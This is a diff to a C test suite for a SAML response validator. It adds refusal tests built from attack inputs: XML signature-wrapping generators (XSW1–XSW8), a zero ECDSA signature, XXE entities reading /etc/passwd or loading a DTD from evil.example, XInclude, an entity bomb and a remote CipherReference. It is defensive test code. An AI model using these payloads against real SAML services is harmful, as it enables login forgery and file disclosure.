@@ -82,6 +82,7 @@ struct scenario {
 	bool to_strangers; /* it is encrypted to a key that is not ours */
 	bool no_key; /* we have none to decrypt with */
 	bool unsolicited, sha1, curve_trusted, weak_trusted;
+	bool old_certificate; /* of the provider: it has expired */
 	int64_t later; /* than NOW, milliseconds */
 };
 
@@ -93,10 +94,25 @@ struct scenario {
 #define ASSERTION_OF(xml) between(xml, "<saml:Assertion", "</saml:Assertion>")
 #define SIGNATURE_OF(xml) between(xml, "<ds:Signature ", "</ds:Signature>")
 
+/* `xml` without `part`, where it has it. */
+static char *without(const char *xml, const char *part)
+{
+	return strstr(xml, part) ? replaced(xml, part, "") : text_of("%s", xml);
+}
+
+/* The signature that an attacker moves: the assertion's, or where that has none the response's. */
+static char *moved_of(const char *xml)
+{
+	char *a = ASSERTION_OF(xml);
+
+	return strstr(a, "<ds:Signature ") ? SIGNATURE_OF(a) : SIGNATURE_OF(xml);
+}
+
 /* The assertion without its signature, of somebody else. */
 static char *evil_of(const char *assertion, const char *id)
 {
-	char *evil = replaced(assertion, SIGNATURE_OF(assertion), "");
+	char *evil = strstr(assertion, "<ds:Signature ") ? without(assertion, SIGNATURE_OF(assertion)) :
+							   text_of("%s", assertion);
 
 	evil = replaced(evil, "ID=\"_a1\"", text_of("ID=\"%s\"", id));
 	evil = replaced(evil, "ada@", "eve@");
@@ -138,44 +154,47 @@ static char *with_signature(const char *evil, const char *signature)
 	return replaced(evil, "</saml:Issuer>", text_of("</saml:Issuer>%s", signature));
 }
 
+/* In place of the signed assertion another one with `signature`; what the signature is of stands behind it. */
+static char *moved_to(char *xml, const char *id)
+{
+	char *a = ASSERTION_OF(xml), *s = moved_of(xml);
+	char *both = text_of("%s%s", with_signature(evil_of(a, id), s), without(a, s));
+
+	return replaced(without(xml, s), without(a, s), both);
+}
+
 static char *signature_moved(char *xml)
 {
-	char *a = ASSERTION_OF(xml), *s = SIGNATURE_OF(a);
-
-	return replaced(xml, a, text_of("%s%s", with_signature(evil_of(a, "_evil"), s), replaced(a, s, "")));
+	return moved_to(xml, "_evil");
 }
 
 static char *signature_moved_same_id(char *xml)
 {
-	char *a = ASSERTION_OF(xml), *s = SIGNATURE_OF(a);
+	return moved_to(xml, "_a1");
+}
 
-	return replaced(xml, a, text_of("%s%s", with_signature(evil_of(a, "_a1"), s), replaced(a, s, "")));
+/* The signed assertion stands inside of its signature, between two tags, and the signature in another assertion. */
+static char *original_inside(char *xml, const char *open, const char *close)
+{
+	char *a = ASSERTION_OF(xml), *s = moved_of(xml);
+	char *holding = replaced(s, "</ds:Signature>", text_of("%s%s%s</ds:Signature>", open, without(a, s), close));
+
+	return replaced(without(xml, s), without(a, s), with_signature(evil_of(a, "_evil"), holding));
 }
 
 static char *original_in_signature(char *xml)
 {
-	char *a = ASSERTION_OF(xml), *s = SIGNATURE_OF(a);
-	char *holding = replaced(s, "</ds:Signature>", text_of("%s</ds:Signature>", replaced(a, s, "")));
-
-	return replaced(xml, a, with_signature(evil_of(a, "_evil"), holding));
+	return original_inside(xml, "", "");
 }
 
 static char *original_in_object(char *xml)
 {
-	char *a = ASSERTION_OF(xml), *s = SIGNATURE_OF(a);
-	char *holding = replaced(s, "</ds:Signature>",
-				 text_of("<ds:Object>%s</ds:Object></ds:Signature>", replaced(a, s, "")));
-
-	return replaced(xml, a, with_signature(evil_of(a, "_evil"), holding));
+	return original_inside(xml, "<ds:Object>", "</ds:Object>");
 }
 
 static char *original_in_key_info(char *xml)
 {
-	char *a = ASSERTION_OF(xml), *s = SIGNATURE_OF(a);
-	char *holding = replaced(s, "</ds:Signature>",
-				 text_of("<ds:KeyInfo>%s</ds:KeyInfo></ds:Signature>", replaced(a, s, "")));
-
-	return replaced(xml, a, with_signature(evil_of(a, "_evil"), holding));
+	return original_inside(xml, "<ds:KeyInfo>", "</ds:KeyInfo>");
 }
 
 static char *original_in_extensions(char *xml)
@@ -242,6 +261,21 @@ static char *response_in_object(char *xml)
 		"");
 }
 
+/* A signature that holds the signed response itself, or one in front of which it stands: the assertion's own too. */
+static char *response_in_signature(char *xml)
+{
+	char *s = SIGNATURE_OF(xml), *original = replaced(xml, s, "");
+
+	return evil_response(xml, replaced(s, "</ds:Signature>", text_of("%s</ds:Signature>", original)), "");
+}
+
+static char *response_before_signature(char *xml)
+{
+	char *s = SIGNATURE_OF(xml);
+
+	return evil_response(xml, text_of("%s%s", replaced(xml, s, ""), s), "");
+}
+
 static char *response_beside(char *xml)
 {
 	char *s = SIGNATURE_OF(xml);
@@ -252,6 +286,87 @@ static char *response_beside(char *xml)
 static char *response_with_its_signature_inside(char *xml)
 {
 	return evil_response(xml, "", xml);
+}
+
+/* Signed by a stranger who sends the certificate along, as an honest provider does. */
+static char *stranger_with_certificate(char *xml)
+{
+	const char *info = text_of("<ds:KeyInfo><ds:X509Data><ds:X509Certificate>%s</ds:X509Certificate></ds:X509Data>"
+				   "</ds:KeyInfo>",
+				   certificate_of(keys.stranger, -60, 3600));
+
+	return signed_at(xml, "_a1", &(struct signing){ .key = keys.stranger, .more = info });
+}
+
+static char *stranger_with_key(char *xml)
+{
+	BIGNUM *modulus = NULL;
+	unsigned char bytes[256];
+	const char *info;
+
+	assert_true(EVP_PKEY_get_bn_param(keys.stranger, "n", &modulus));
+	assert_int_equal(BN_bn2bin(modulus, bytes), sizeof(bytes));
+	BN_free(modulus);
+	info = text_of("<ds:KeyInfo><ds:KeyValue><ds:RSAKeyValue><ds:Modulus>%s</ds:Modulus>"
+		       "<ds:Exponent>AQAB</ds:Exponent></ds:RSAKeyValue></ds:KeyValue></ds:KeyInfo>",
+		       base64_of(bytes, sizeof(bytes)));
+	return signed_at(xml, "_a1", &(struct signing){ .key = keys.stranger, .more = info });
+}
+
+/* Another SignedInfo before or behind the signed one: some verify the one and read the other. */
+static char *info_twice(char *xml, bool before)
+{
+	char *info = between(xml, "<ds:SignedInfo", "</ds:SignedInfo>");
+	char *other = replaced(info, "<ds:DigestValue>", "<ds:DigestValue>AAAA");
+
+	return replaced(xml, info, before ? text_of("%s%s", other, info) : text_of("%s%s", info, other));
+}
+
+static char *evil_info_before(char *xml)
+{
+	return info_twice(xml, true);
+}
+
+static char *evil_info_behind(char *xml)
+{
+	return info_twice(xml, false);
+}
+
+/* Both numbers zero: what some verifiers take for every text (CVE-2022-21449). */
+static char *zero_signature(char *xml)
+{
+	static const unsigned char zeros[64];
+
+	return replaced(xml, between(xml, "<ds:SignatureValue>", "</ds:SignatureValue>"),
+			text_of("<ds:SignatureValue>%s</ds:SignatureValue>", base64_of(zeros, sizeof(zeros))));
+}
+
+static char *no_value(char *xml)
+{
+	return replaced(xml, between(xml, "<ds:SignatureValue>", "</ds:SignatureValue>"),
+			"<ds:SignatureValue></ds:SignatureValue>");
+}
+
+/* The same with the assertion encrypted once more, each believed alone. */
+static char *encrypted_twice(char *xml)
+{
+	char *a = between(xml, "<saml:EncryptedAssertion", "</saml:EncryptedAssertion>");
+
+	return replaced(xml, a, text_of("%s%s", a, a));
+}
+
+static char *encrypted_in_encrypted(char *xml)
+{
+	char *a = between(xml, "<saml:EncryptedAssertion", "</saml:EncryptedAssertion>");
+
+	return replaced(xml, a, encrypted(a, &(struct encrypting){ .key = keys.ours }));
+}
+
+static char *encrypted_response(char *xml)
+{
+	char *a = between(xml, "<saml:EncryptedAssertion", "</saml:EncryptedAssertion>");
+
+	return replaced(xml, a, encrypted(honest, &(struct encrypting){ .key = keys.ours }));
 }
 
 static char *second_signature(char *xml)
@@ -334,13 +449,20 @@ static struct encrypting gcm,
 	gcm128 = { .cipher = NS_XENC11 "aes128-gcm", .beside = true }, damaged = { .damaged = true },
 	damaged_cbc = { .cipher = NS_XENC "aes256-cbc", .damaged = true },
 	old_transport = { .transport = NS_XENC "rsa-1_5" }, other_cipher = { .cipher = NS_XENC "tripledes-cbc" },
-	stranger_gcm, no_key_gcm, unsigned_gcm, signed_response_gcm, stranger_signs_gcm,
-	stranger_signs_cbc = { .cipher = NS_XENC "aes256-cbc" };
+	stranger_gcm, no_key_gcm, unsigned_gcm, signed_response_gcm, stranger_signs_gcm, twice_gcm, nested_gcm,
+	whole_gcm, short_key_gcm = { .cipher = NS_XENC11 "aes128-gcm" }, far_gcm,
+	kw_transport = { .transport = NS_XENC "kw-aes128" }, stranger_signs_cbc = { .cipher = NS_XENC "aes256-cbc" };
 
 #define STATUS_FAILED "urn:oasis:names:tc:SAML:2.0:status:Responder"
 #define DTD "<!DOCTYPE r [<!ENTITY who \"eve\">]>"
 #define BOMB "<!DOCTYPE r [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;\">]>"
 #define OUTSIDE "<!DOCTYPE r SYSTEM \"file:///etc/passwd\">"
+#define FILE_ENTITY "<!DOCTYPE r [<!ENTITY who SYSTEM \"file:///etc/passwd\">]>"
+#define WEB_ENTITY "<!DOCTYPE r [<!ENTITY who PUBLIC \"x\" \"http://evil.example/who\">]>"
+#define PARAMETER_ENTITY "<!DOCTYPE r [<!ENTITY % more SYSTEM \"http://evil.example/dtd\">%more;]>"
+#define ATTLIST "<!DOCTYPE r [<!ATTLIST samlp:Response Destination CDATA #FIXED \"x\">]>"
+#define INCLUDE \
+	"<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\" parse=\"text\"/>"
 #define ROOT "<samlp:Response xmlns:samlp"
 
 static const struct scenario scenarios[] = {
@@ -374,6 +496,10 @@ static const struct scenario scenarios[] = {
 		 "<saml:SubjectConfirmation ") },
 	{ "one audience of several may be ours", NULL,
 	  CHANGE("<saml:Audience>", "<saml:Audience>https://other.example</saml:Audience><saml:Audience>") },
+	{ "a certificate that has expired counts, since its key alone was configured", NULL,
+	  .old_certificate = true },
+	{ "a name in CDATA is its text", NULL, AFTER("ada@acme.example</saml:NameID",
+						     "<![CDATA[ada@]]>acme.example</saml:NameID") },
 	{ "a response need not name its issuer", NULL,
 	  CHANGE("<saml:Issuer>" IDP "</saml:Issuer><samlp:Status>", "<samlp:Status>") },
 
@@ -408,12 +534,33 @@ static const struct scenario scenarios[] = {
 	{ "a signature that is no base64 is refused", "signature",
 	  AFTER("<ds:SignatureValue>", "<ds:SignatureValue>*") },
 	{ "two signatures of one element are refused", "shape", .change = second_signature },
+	{ "a certificate that comes with the signature is not used", "signature", .signs = NOTHING,
+	  .change = stranger_with_certificate },
+	{ "a key that comes with the signature is not used", "signature", .signs = NOTHING,
+	  .change = stranger_with_key },
+	{ "a signature of two zeros is refused", "signature", .who = BY_CURVE, .curve_trusted = true,
+	  .how = { .method = "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256" }, .change = zero_signature },
+	{ "an empty signature is refused", "signature", .change = no_value },
+	{ "another SignedInfo before the signed one is refused", "shape", .change = evil_info_before },
+	{ "another SignedInfo behind the signed one is refused", "shape", .change = evil_info_behind },
+	{ "a signature of another namespace is none", "unsigned",
+	  .after = { { "<ds:Signature xmlns:ds=\"" NS_DSIG, "<ds:Signature xmlns:ds=\"urn:x" } } },
 
 	/* algorithms */
 	{ "a signature with SHA-1 is refused", "algorithm", .how = { .method = NS_DSIG "rsa-sha1" } },
 	{ "a digest with SHA-1 is refused", "algorithm", .how = { .digest = NS_DSIG "sha1" } },
 	{ "an HMAC is refused, whatever its key", "algorithm",
 	  .how = { .method = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256" } },
+	{ "an HMAC with SHA-1 is refused, whatever its key", "algorithm", .sha1 = true,
+	  .how = { .method = NS_DSIG "hmac-sha1" } },
+	{ "a signature with MD5 is refused", "algorithm", .sha1 = true,
+	  .how = { .method = "http://www.w3.org/2001/04/xmldsig-more#rsa-md5" } },
+	{ "DSA is refused", "algorithm", .sha1 = true, .how = { .method = NS_DSIG "dsa-sha1" } },
+	{ "ECDSA with SHA-1 is refused, also where SHA-1 is allowed", "algorithm", .sha1 = true,
+	  .how = { .method = "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha1" } },
+	{ "a digest with MD5 is refused", "algorithm", .sha1 = true,
+	  .how = { .digest = "http://www.w3.org/2001/04/xmldsig-more#md5" } },
+	{ "a signature without an algorithm is refused", "algorithm", .how = { .method = "" } },
 	{ "an unknown algorithm is refused", "algorithm", .how = { .method = "none" } },
 	{ "a signature algorithm changed afterwards is refused", "signature", AFTER("rsa-sha256", "rsa-sha512") },
 	{ "an unknown canonicalization is refused", "algorithm", .how = { .form = "http://example/c14n" } },
@@ -431,6 +578,8 @@ static const struct scenario scenarios[] = {
 	{ "a reference to nothing is refused", "reference", .how = { .uri = "#_nothing" } },
 	{ "a reference to another document is refused", "reference", .how = { .uri = "https://idp.example/a#_a1" } },
 	{ "a reference by XPointer is refused", "reference", .how = { .uri = "#xpointer(id('_a1'))" } },
+	{ "a reference in percent escapes is refused", "reference", .how = { .uri = "#%5Fa1" } },
+	{ "a reference without its mark is refused", "reference", .how = { .uri = "_a1" } },
 	{ "a second reference is refused", "reference",
 	  .how = { .more_info = "<ds:Reference URI=\"#_a1\"></ds:Reference>" } },
 	{ "a signature of an element without an id is refused", "reference", AFTER("ID=\"_a1\"", "Id=\"_a1\"") },
@@ -465,12 +614,46 @@ static const struct scenario scenarios[] = {
 	{ "the signed response inside of another is refused", "shape", .signs = RESPONSE, .change = response_beside },
 	{ "the signed response with its signature inside of another is refused", "shape", .signs = RESPONSE,
 	  .change = response_with_its_signature_inside },
+	/* each of the eight of "On Breaking SAML" (Somorovsky et al., 2012), of a signed assertion and a response */
+	{ "XSW1 of a signed response is refused", "shape", .signs = RESPONSE, .change = response_in_signature },
+	{ "XSW1 of a signed assertion is refused", "assertions", .change = response_in_signature },
+	{ "XSW2 of a signed response is refused", "shape", .signs = RESPONSE, .change = response_before_signature },
+	{ "XSW2 of a signed assertion is refused", "assertions", .change = response_before_signature },
+	{ "XSW3 of a signed response is refused", "shape", .signs = RESPONSE, .change = evil_before },
+	{ "XSW3 of a signed assertion is refused", "shape", .change = evil_before },
+	{ "XSW4 of a signed response is refused", "signature", .signs = RESPONSE, .change = evil_around },
+	{ "XSW4 of a signed assertion is refused", "assertions", .change = evil_around },
+	{ "XSW5 of a signed response is refused", "shape", .signs = RESPONSE, .change = signature_moved },
+	{ "XSW5 of a signed assertion is refused", "shape", .change = signature_moved },
+	{ "XSW6 of a signed response is refused", "assertions", .signs = RESPONSE, .change = original_in_signature },
+	{ "XSW6 of a signed assertion is refused", "assertions", .change = original_in_signature },
+	{ "XSW7 of a signed response is refused", "signature", .signs = RESPONSE, .change = evil_in_extensions },
+	{ "XSW7 of a signed assertion is refused", "assertions", .change = evil_in_extensions },
+	{ "XSW8 of a signed response is refused", "assertions", .signs = RESPONSE, .change = original_in_object },
+	{ "XSW8 of a signed assertion is refused", "assertions", .change = original_in_object },
 	{ "an assertion alone is refused", "shape", .change = no_response },
 	{ "another assertion added to a signed response is refused", "shape", .signs = BOTH, .change = evil_before },
 
 	/* XML */
 	{ "a comment does not cut a name short", "signature",
 	  AFTER("ada@acme.example</saml:NameID", "ada@acme.example<!-- -->.evil.example</saml:NameID") },
+	{ "a comment does not cut an attribute's value short", "signature",
+	  AFTER("ada@acme.example</saml:AttributeValue", "ada@acme.example<!-- -->.evil</saml:AttributeValue") },
+	{ "a processing instruction in a name is refused", "xml",
+	  AFTER("ada@acme.example</saml:NameID", "ada@acme.example<?x?>.evil.example</saml:NameID") },
+	{ "a file in place of a name is not included", "subject", CHANGE("ada@acme", INCLUDE "ada@acme") },
+	{ "an entity that is a file is refused", "xml",
+	  .after = { { ROOT, FILE_ENTITY ROOT }, { "ada@", "&who;@" } } },
+	{ "an entity that is another server's is refused", "xml",
+	  .after = { { ROOT, WEB_ENTITY ROOT }, { "ada@", "&who;@" } } },
+	{ "a document type that loads another is refused", "xml", AFTER(ROOT, PARAMETER_ENTITY ROOT) },
+	{ "an attribute with a default by a document type is refused", "xml", AFTER(ROOT, ATTLIST ROOT) },
+	{ "a namespace that has no canonical form is refused", "xml",
+	  AFTER("<saml:AttributeStatement>", "<saml:AttributeStatement xmlns:x=\"1\" x:y=\"\">") },
+	{ "a namespace that no prefix can have is refused", "xml",
+	  AFTER("<saml:AttributeStatement>", "<saml:AttributeStatement xmlns:x=\"a b:c\">") },
+	{ "an attribute that is there twice is refused", "xml", AFTER("ID=\"_a1\"", "ID=\"_evil\" ID=\"_a1\"") },
+	{ "a byte of zero is refused", "xml", AFTER("<samlp:Status>", "<samlp:Status>&#0;") },
 	{ "a document type is refused", "xml", AFTER(ROOT, DTD ROOT) },
 	{ "an entity is refused", "xml", .after = { { ROOT, DTD ROOT }, { "ada@", "&who;@" } } },
 	{ "entities made of entities are refused", "xml", .after = { { ROOT, BOMB ROOT }, { "ada@", "&c;@" } } },
@@ -495,10 +678,29 @@ static const struct scenario scenarios[] = {
 	/* what the response says */
 	{ "a provider's refusal is one", "status",
 	  CHANGE("urn:oasis:names:tc:SAML:2.0:status:Success", STATUS_FAILED) },
+	{ "a refusal that holds a success is one", "status",
+	  CHANGE("<samlp:StatusCode Value=\"urn:oasis:names:tc:SAML:2.0:status:Success\"/>",
+		 "<samlp:StatusCode Value=\"" STATUS_FAILED "\"><samlp:StatusCode"
+		 " Value=\"urn:oasis:names:tc:SAML:2.0:status:Success\"/></samlp:StatusCode>") },
+	{ "a success behind a refusal does not count", "status",
+	  CHANGE("<samlp:StatusCode ", "<samlp:StatusCode Value=\"" STATUS_FAILED "\"/><samlp:StatusCode ") },
+	{ "an empty status is refused", "status",
+	  CHANGE("urn:oasis:names:tc:SAML:2.0:status:Success", "") },
 	{ "a response without a status is refused", "shape",
 	  CHANGE("<samlp:StatusCode Value=\"urn:oasis:names:tc:SAML:2.0:status:Success\"/>", "") },
 	{ "a response of another issuer is refused", "issuer",
 	  CHANGE("<saml:Issuer>" IDP, "<saml:Issuer>https://evil.example") },
+	{ "a response of an issuer without a name is refused", "issuer",
+	  CHANGE("<saml:Issuer>" IDP, "<saml:Issuer>") },
+	{ "an issuer whose name is longer is refused", "issuer",
+	  CHANGE("<saml:Issuer>" IDP, "<saml:Issuer>" IDP "/") },
+	{ "an issuer that is no entity is refused", "issuer",
+	  CHANGE("<saml:Issuer>" IDP,
+		 "<saml:Issuer Format=\"urn:oasis:names:tc:SAML:2.0:nameid-format:persistent\">" IDP) },
+	{ "an assertion of an issuer without a name is refused", "issuer",
+	  CHANGE(IDP "</saml:Issuer><saml:Subject>", "</saml:Issuer><saml:Subject>") },
+	{ "an assertion of two issuers is refused", "issuer",
+	  CHANGE("<saml:Subject>", "<saml:Issuer>https://evil.example</saml:Issuer><saml:Subject>") },
 	{ "an assertion of another issuer is refused", "issuer",
 	  CHANGE(IDP "</saml:Issuer><saml:Subject>", "https://evil.example</saml:Issuer><saml:Subject>") },
 	{ "an assertion without an issuer is refused", "issuer", .signs = RESPONSE,
@@ -507,11 +709,22 @@ static const struct scenario scenarios[] = {
 	  CHANGE("Destination=\"" ACS, "Destination=\"https://other.example") },
 	{ "a signed response without a destination is refused", "destination", .signs = RESPONSE,
 	  CHANGE(" Destination=\"" ACS "\"", "") },
+	{ "a response for an empty address is refused", "destination",
+	  CHANGE("Destination=\"" ACS, "Destination=\"") },
+	{ "a response for an address below ours is refused", "destination",
+	  CHANGE("Destination=\"" ACS, "Destination=\"" ACS "/") },
+	{ "an assertion for an empty address is refused", "recipient", CHANGE("Recipient=\"" ACS, "Recipient=\"") },
 	{ "an assertion for another address is refused", "recipient",
 	  CHANGE("Recipient=\"" ACS, "Recipient=\"https://other.example") },
 	{ "an assertion for no address is refused", "recipient", CHANGE(" Recipient=\"" ACS "\"", "") },
 	{ "an assertion for another audience is refused", "audience",
 	  CHANGE("<saml:Audience>" SP, "<saml:Audience>https://other.example") },
+	{ "an assertion for an audience without a name is refused", "audience",
+	  CHANGE("<saml:Audience>" SP, "<saml:Audience>") },
+	{ "an assertion for an empty list of audiences is refused", "audience",
+	  CHANGE("<saml:Audience>" SP "</saml:Audience>", "") },
+	{ "an assertion with two sets of conditions is refused", "audience",
+	  CHANGE("<saml:Conditions ", "<saml:Conditions/><saml:Conditions ") },
 	{ "an assertion for another connector of ours is refused", "audience",
 	  CHANGE("<saml:Audience>" SP, "<saml:Audience>" SP "2") },
 	{ "an assertion for no audience is refused", "audience",
@@ -532,11 +745,30 @@ static const struct scenario scenarios[] = {
 	{ "an answer to no request is refused", "in_response_to", CHANGE(" InResponseTo=\"_q1\"><", "><") },
 	{ "an assertion for no request is refused", "in_response_to",
 	  CHANGE(" InResponseTo=\"_q1\" Recipient", " Recipient") },
+	{ "an answer to a request without a name is refused", "in_response_to",
+	  CHANGE("InResponseTo=\"_q1\"><", "InResponseTo=\"\"><") },
+	{ "an assertion for a request without a name is refused", "in_response_to",
+	  CHANGE("InResponseTo=\"_q1\" Recipient", "InResponseTo=\"\" Recipient") },
 	{ "an answer is refused where none was asked for", "in_response_to", .unsolicited = true },
+	{ "an assertion for a request is refused where none was sent", "in_response_to", .unsolicited = true,
+	  CHANGE(" InResponseTo=\"_q1\"><", "><") },
 
 	/* times */
 	{ "an assertion that has expired is refused", "time", .later = 9 * MINUTE },
 	{ "an assertion of the future is refused", "time", .later = -10 * MINUTE },
+	{ "conditions that have expired are refused", "time",
+	  CHANGE("NotOnOrAfter=\"2026-08-01T12:05:00Z\"><", "NotOnOrAfter=\"2026-08-01T11:57:00Z\"><") },
+	{ "conditions that have not begun are refused", "time",
+	  CHANGE("NotBefore=\"2026-08-01T11:59:00Z", "NotBefore=\"2026-08-01T12:03:01Z") },
+	{ "conditions with a time that is none are refused", "time",
+	  CHANGE("NotBefore=\"2026-08-01T11:59:00Z", "NotBefore=\"") },
+	{ "a response of the future is refused", "time",
+	  CHANGE("IssueInstant=\"2026-08-01T12:00:00Z", "IssueInstant=\"2026-08-01T12:03:01Z") },
+	{ "an assertion that nobody issued at any time is refused", "time",
+	  CHANGE("ID=\"_a1\" Version=\"2.0\" IssueInstant=\"2026-08-01T12:00:00Z\"", "ID=\"_a1\" Version=\"2.0\"") },
+	{ "an authentication of the future is refused", "time",
+	  CHANGE("AuthnInstant=\"2026-08-01T11:58:00Z", "AuthnInstant=\"2026-08-01T12:03:01Z") },
+	{ "an authentication at no time is refused", "time", CHANGE(" AuthnInstant=\"2026-08-01T11:58:00Z\"", "") },
 	{ "an assertion whose confirmation has expired is refused", "time",
 	  CHANGE("NotOnOrAfter=\"2026-08-01T12:05:00Z\"/>", "NotOnOrAfter=\"2026-08-01T11:05:00Z\"/>") },
 	{ "an assertion without an end is refused", "time", CHANGE(" NotOnOrAfter=\"2026-08-01T12:05:00Z\"/>", "/>") },
@@ -553,12 +785,22 @@ static const struct scenario scenarios[] = {
 
 	/* subject */
 	{ "an assertion for whoever holds a key is refused", "confirmation", CHANGE("cm:bearer", "cm:holder-of-key") },
+	{ "an assertion that its sender vouches for is refused", "confirmation",
+	  CHANGE("cm:bearer", "cm:sender-vouches") },
+	{ "a confirmation without a method is refused", "confirmation",
+	  CHANGE(" Method=\"urn:oasis:names:tc:SAML:2.0:cm:bearer\"", "") },
+	{ "a confirmation without data is refused", "confirmation",
+	  CHANGE("<saml:SubjectConfirmationData", "<x") },
+	{ "a confirmation with data twice is refused", "confirmation",
+	  CHANGE("<saml:SubjectConfirmationData", "<saml:SubjectConfirmationData/><saml:SubjectConfirmationData") },
 	{ "an assertion without a confirmation is refused", "confirmation",
 	  .before = { { "<saml:SubjectConfirmation ", "<x " }, { "</saml:SubjectConfirmation>", "</x>" } } },
 	{ "an assertion without a subject is refused", "subject",
 	  .before = { { "<saml:Subject>", "<x>" }, { "</saml:Subject>", "</x>" } } },
 	{ "an assertion without a name is refused", "subject",
 	  .before = { { "<saml:NameID ", "<x " }, { "</saml:NameID>", "</x>" } } },
+	{ "an encrypted name is refused", "subject", CHANGE("<saml:NameID ", "<saml:EncryptedID/><saml:NameID ") },
+	{ "a second subject is refused", "subject", CHANGE("<saml:Conditions ", "<saml:Subject/><saml:Conditions ") },
 	{ "an empty name is refused", "subject", CHANGE("ada@acme.example</saml:NameID>", "</saml:NameID>") },
 	{ "two names are refused", "subject", CHANGE("<saml:NameID ", "<saml:NameID>eve</saml:NameID><saml:NameID ") },
 	{ "a name with elements in it is refused", "subject", CHANGE("ada@acme", "ada<x/>@acme") },
@@ -583,6 +825,16 @@ static const struct scenario scenarios[] = {
 	  .who = BY_STRANGER },
 	{ "a key encrypted with PKCS #1 v1.5 is refused", "algorithm", .encrypts = &old_transport },
 	{ "an unknown cipher is refused", "algorithm", .encrypts = &other_cipher },
+	{ "a key encrypted in an unknown way is refused", "algorithm", .encrypts = &kw_transport },
+	{ "two encrypted assertions are refused", "shape", .encrypts = &twice_gcm, .change = encrypted_twice },
+	{ "an encrypted assertion inside of another is refused", "encrypted", .encrypts = &nested_gcm,
+	  .change = encrypted_in_encrypted },
+	{ "an encrypted response is no assertion", "encrypted", .encrypts = &whole_gcm,
+	  .change = encrypted_response },
+	{ "a key of another length than the cipher's is refused", "encrypted", .encrypts = &short_key_gcm,
+	  AFTER(NS_XENC11 "aes128-gcm", NS_XENC11 "aes256-gcm") },
+	{ "a text encrypted elsewhere is not fetched", "encrypted", .encrypts = &far_gcm,
+	  AFTER("<xenc:CipherValue>", "<xenc:CipherReference URI=\"http://evil.example/\"/><xenc:CipherValue>") },
 };
 
 /* -- a response of a scenario -- */
@@ -630,9 +882,9 @@ static json_t *question_of(const struct scenario *s, const char *xml)
 	return json_pack("{s:s, s:s, s:I, s:I, s:{s:s, s:[s]}, s:{s:s, s:s}, s:s?, s:o, s:b}", "do", "response",
 			 "response", base64_of(xml, strlen(xml)), "now", (json_int_t)(NOW + s->later), "skew",
 			 (json_int_t)(3 * MINUTE), "identityProvider", "entityId", IDP, "certificates",
-			 certificate_of(trusted, -60, 3600), "serviceProvider", "entityId", SP,
-			 "assertionConsumerServiceUrl", ACS, "requestId", s->unsolicited ? NULL : "_q1",
-			 "decryptionKeys", readers, "allowSha1", s->sha1);
+			 certificate_of(trusted, s->old_certificate ? -7200 : -60, s->old_certificate ? -3600 : 3600),
+			 "serviceProvider", "entityId", SP, "assertionConsumerServiceUrl", ACS, "requestId",
+			 s->unsolicited ? NULL : "_q1", "decryptionKeys", readers, "allowSha1", s->sha1);
 }
 
 /* What the program answers. Yours. */
@@ -699,6 +951,17 @@ static void a_comment_inside_of_a_name_is_left_out_and_its_text_stays_whole(void
 
 	(void)state;
 	assert_string_equal(text_at(answer, "nameId"), "ada@acme.example");
+	json_decref(answer);
+}
+
+static void a_file_that_a_value_wants_included_is_not_read(void **state)
+{
+	const struct scenario s = { CHANGE("<saml:AttributeValue>a<", "<saml:AttributeValue>" INCLUDE "<") };
+	json_t *answer = ask(&s, response_of(&s)), *a = json_object_get(answer, "answer");
+	json_t *groups = json_object_get(json_object_get(a, "attributes"), "groups");
+
+	(void)state;
+	assert_string_equal(json_string_value(json_array_get(groups, 0)), "");
 	json_decref(answer);
 }
 
@@ -780,6 +1043,7 @@ int main(void)
 	static const struct CMUnitTest others[] = {
 		cmocka_unit_test_teardown(the_answer_has_what_the_provider_said, forget_all),
 		cmocka_unit_test_teardown(a_comment_inside_of_a_name_is_left_out_and_its_text_stays_whole, forget_all),
+		cmocka_unit_test_teardown(a_file_that_a_value_wants_included_is_not_read, forget_all),
 		cmocka_unit_test_teardown(very_many_attributes_are_refused_although_they_are_signed, forget_all),
 		cmocka_unit_test_teardown(a_very_long_value_is_refused_although_it_is_signed, forget_all),
 		cmocka_unit_test_teardown(refusals_under_encryption_do_not_differ, forget_all),
